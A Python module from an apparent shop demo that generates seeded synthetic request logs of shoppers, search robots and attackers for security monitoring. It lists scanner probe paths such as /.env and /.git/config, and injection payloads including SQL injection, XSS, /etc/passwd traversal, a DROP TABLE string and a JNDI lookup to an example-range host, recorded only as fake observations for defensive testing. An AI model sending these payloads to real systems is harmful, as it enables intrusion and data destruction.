"""Three days at the door: shoppers who wander, robots that read, and attackers who knock, all from one seed."""

from collections.abc import Iterator, Sequence
from datetime import datetime, timedelta
from typing import NamedTuple
from urllib.parse import quote_plus
from uuid import UUID

from security.domain.watching import Observation
from shop.demo.dice import Dice

DAYS = 3
SHOPPERS_A_DAY = 260
ROBOTS_A_DAY = 14
ATTACKS_A_DAY = 6

AGENTS = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 16; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.0 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0",
)
ROBOTS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
)
SCRIPTS = ("python-requests/2.32", "curl/8.14", "sqlmap/1.9#stable (https://sqlmap.org)", "")
BROWSER_HEADERS = (
    "HTTP_HOST", "HTTP_USER_AGENT", "HTTP_ACCEPT", "HTTP_ACCEPT_LANGUAGE", "HTTP_ACCEPT_ENCODING", "HTTP_COOKIE",
    "HTTP_REFERER", "HTTP_SEC_FETCH_SITE", "HTTP_SEC_FETCH_MODE",
)  # fmt: skip
ROBOT_HEADERS = ("HTTP_HOST", "HTTP_ACCEPT", "HTTP_USER_AGENT", "HTTP_ACCEPT_ENCODING")
SCRIPT_HEADERS = ("HTTP_HOST", "HTTP_USER_AGENT", "HTTP_ACCEPT")
# What scanners ask every shop for, and what they put into its fields.
SCANNED = (
    "/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/backup.sql",
    "/server-status", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/env", "/cgi-bin/luci",
)  # fmt: skip
PAYLOADS = (
    "' OR 1=1--", "1 UNION SELECT username,password FROM users", "<script>alert(1)</script>", "../../../../etc/passwd",
    "'; DROP TABLE orders;--", "${jndi:ldap://198.51.100.9/a}", "1 AND SLEEP(5)", "<img src=x onerror=alert(1)>",
)  # fmt: skip


class Knock(NamedTuple):
    """A request and when it came."""

    at: datetime
    seen: Observation


class Places(NamedTuple):
    """Where people go in this shop."""

    products: Sequence[str]
    categories: Sequence[str]
    searches: Sequence[str]


def knocks(places: Places, *, now: datetime, seed: int) -> list[Knock]:
    """Every request of the last three days, the oldest first."""
    dice = Dice(f"requests {seed}")
    came: list[Knock] = []
    for day in range(DAYS):
        begin = now - timedelta(days=DAYS - day)
        for _visit in range(SHOPPERS_A_DAY):
            came.extend(_shopper(dice, places, _moment(dice, begin)))
        for _visit in range(ROBOTS_A_DAY):
            came.extend(_robot(dice, places, _moment(dice, begin)))
        for _attack in range(ATTACKS_A_DAY):
            came.extend(dice.pick(ATTACKS)(dice, _moment(dice, begin)))
    # Who came at the end of the last day is still here.
    return sorted((knock for knock in came if knock.at <= now), key=lambda knock: knock.at)


def _shopper(dice: Dice, places: Places, at: datetime) -> Iterator[Knock]:
    """Somebody looks around, searches perhaps, and puts a thing into the cart perhaps."""
    sender = _Sender(dice, dice.pick(AGENTS), BROWSER_HEADERS, session=True)
    yield sender.asks(at, "/", route="", bytes_out=dice.randint(30_000, 42_000))
    for _step in range(dice.randint(2, 9)):
        at += timedelta(seconds=dice.randint(4, 70))
        kind = dice.weighted((("product", 6), ("category", 4), ("search", 2), ("cart", 1)))
        if kind == "search":
            query = f"q={quote_plus(dice.pick(places.searches))}"
            yield sender.asks(at, "/search/", query, route="search/", bytes_out=30_000)
        elif kind == "cart":
            yield sender.asks(at, "/cart/add/", route="cart/add/", method="POST", status=302)
        elif kind == "category":
            slug = dice.pick(places.categories)
            query = "page=2" if dice.maybe(0.2) else ""
            yield sender.asks(at, f"/c/{slug}/", query, route="c/<slug:slug>/", bytes_out=38_000)
        else:
            slug = dice.pick(places.products)
            yield sender.asks(at, f"/p/{slug}/", route="p/<slug:slug>/", bytes_out=33_000)


def _robot(dice: Dice, places: Places, at: datetime) -> Iterator[Knock]:
    """A search engine reads a dozen pages."""
    sender = _Sender(dice, dice.pick(ROBOTS), ROBOT_HEADERS)
    for slug in dice.some(places.products, 12):
        at += timedelta(seconds=dice.randint(2, 20))
        yield sender.asks(at, f"/p/{slug}/", route="p/<slug:slug>/", bytes_out=33_000)


def _scanner(dice: Dice, at: datetime) -> Iterator[Knock]:
    """A script looks for what other programs leave lying about."""
    sender = _Sender(dice, dice.pick(SCRIPTS), SCRIPT_HEADERS)
    for path in dice.some(SCANNED, 8):
        at += timedelta(milliseconds=dice.randint(60, 400))
        yield sender.asks(at, path, status=404, bytes_out=32_000)


def _injector(dice: Dice, at: datetime) -> Iterator[Knock]:
    """A script puts code where words belong."""
    sender = _Sender(dice, dice.pick(SCRIPTS), SCRIPT_HEADERS)
    for payload in dice.some(PAYLOADS, 6):
        at += timedelta(milliseconds=dice.randint(100, 900))
        yield sender.asks(at, "/search/", f"q={quote_plus(payload)}", route="search/")


def _stuffer(dice: Dice, at: datetime) -> Iterator[Knock]:
    """A script tries stolen passwords."""
    sender = _Sender(dice, dice.pick(SCRIPTS), SCRIPT_HEADERS)
    for _try in range(25):
        at += timedelta(milliseconds=dice.randint(150, 600))
        yield sender.asks(
            at, "/api/auth/token", route="api/auth/token", method="POST", status=401, bytes_out=180
        )


ATTACKS = (_scanner, _injector, _stuffer)


class _Sender:
    """One program at one address, in the ranges that are reserved for examples."""

    def __init__(
        self, dice: Dice, agent: str, headers: tuple[str, ...], *, session: bool = False
    ) -> None:
        self.dice, self.agent, self.headers = dice, agent, headers
        network = dice.pick(("192.0.2", "198.51.100", "203.0.113"))
        self.address = f"{network}.{dice.randint(1, 254)}"
        self.session = f"{dice.getrandbits(128):032x}" if session else ""

    def asks(
        self,
        at: datetime,
        path: str,
        query: str = "",
        *,
        route: str = "",
        method: str = "GET",
        status: int = 200,
        bytes_out: int = 9_000,
    ) -> Knock:
        return Knock(
            at,
            Observation(
                request_id=UUID(int=self.dice.getrandbits(128), version=4),
                method=method,
                path=path,
                query=query,
                route=route,
                route_arguments={},
                status=status,
                duration_us=int(self.dice.lognormvariate(9.2, 0.5)),
                bytes_in=self.dice.randint(90, 400) if method == "POST" else 0,
                bytes_out=bytes_out + self.dice.randint(-400, 400)
                if bytes_out > 400
                else bytes_out,
                address=self.address,
                user_id=None,
                session_key=self.session,
                agent=self.agent,
                header_names=self.headers,
            ),
        )


def _moment(dice: Dice, begin: datetime) -> datetime:
    return begin + timedelta(seconds=dice.random() * 86_400)
